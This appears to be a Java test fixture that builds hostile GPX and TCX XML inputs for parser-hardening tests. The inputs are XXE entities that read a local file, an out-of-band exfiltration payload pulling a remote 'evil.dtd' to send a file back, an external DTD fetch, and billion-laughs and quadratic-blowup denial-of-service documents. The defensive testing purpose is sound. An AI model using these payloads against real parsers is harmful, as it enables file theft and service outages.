package io.backstride.ingest;

/**
 * The hostile XML corpus: files written to leak a local file, reach the network or exhaust the
 * parser, shared by the tests of the readers ({@code HostileInputTest}) and of the StAX stack they
 * run on ({@code SecureXmlStackTest}).
 */
public final class HostileCorpus {

  /** A GPX whose entity would read the file at {@code uri} into a name and an elevation. */
  public static String xxeGpx(String uri) {
    return """
        <?xml version="1.0"?>
        <!DOCTYPE gpx [<!ENTITY xxe SYSTEM "%s">]>
        <gpx><trk><name>&xxe;</name><trkseg>
        <trkpt lat="1" lon="1"><time>2026-03-02T07:00:00Z</time><ele>&xxe;</ele></trkpt>
        </trkseg></trk></gpx>
        """
        .formatted(uri);
  }

  /** A TCX whose entity would read the file at {@code uri} into a sport and an altitude. */
  public static String xxeTcx(String uri) {
    return """
        <?xml version="1.0"?>
        <!DOCTYPE TrainingCenterDatabase [<!ENTITY xxe SYSTEM "%s">]>
        <TrainingCenterDatabase><Activities><Activity Sport="&xxe;"><Lap><Track>
        <Trackpoint><Time>2026-03-02T07:00:00Z</Time><AltitudeMeters>&xxe;</AltitudeMeters>
        </Trackpoint></Track></Lap></Activity></Activities></TrainingCenterDatabase>
        """
        .formatted(uri);
  }

  /**
   * Out-of-band exfiltration: the remote DTD at {@code base} would define an entity sending a file
   * back.
   */
  public static String remoteDtdGpx(String base) {
    return """
        <?xml version="1.0"?>
        <!DOCTYPE gpx [<!ENTITY %% remote SYSTEM "%s/evil.dtd"> %%remote; %%send;]>
        <gpx><trk><trkseg><trkpt lat="1" lon="1"><time>2026-03-02T07:00:00Z</time></trkpt>
        </trkseg></trk></gpx>
        """
        .formatted(base);
  }

  /** A TCX whose external DTD at {@code base} a validating parser would fetch. */
  public static String remoteDtdTcx(String base) {
    return """
        <?xml version="1.0"?>
        <!DOCTYPE TrainingCenterDatabase SYSTEM "%s/tcx.dtd">
        <TrainingCenterDatabase/>
        """
        .formatted(base);
  }

  /** Ten levels of ten references each: a billion "lol"s if expanded. */
  public static String billionLaughs() {
    StringBuilder dtd = new StringBuilder("<!DOCTYPE gpx [<!ENTITY lol0 \"lol\">");
    for (int i = 1; i <= 9; i++) {
      String previous = "&lol" + (i - 1) + ";";
      dtd.append("<!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">");
    }
    dtd.append("]>");
    return "<?xml version=\"1.0\"?>\n" + dtd + "\n<gpx><trk><name>&lol9;</name></trk></gpx>";
  }

  /** One 50,000-letter entity referenced 50,000 times: 2.5 GB if expanded. */
  public static String quadraticBlowUp() {
    return "<?xml version=\"1.0\"?>\n<!DOCTYPE gpx [<!ENTITY a \""
        + "a".repeat(50_000)
        + "\">]>\n<gpx><trk><name>"
        + "&a;".repeat(50_000)
        + "</name></trk></gpx>";
  }

  private HostileCorpus() {}
}
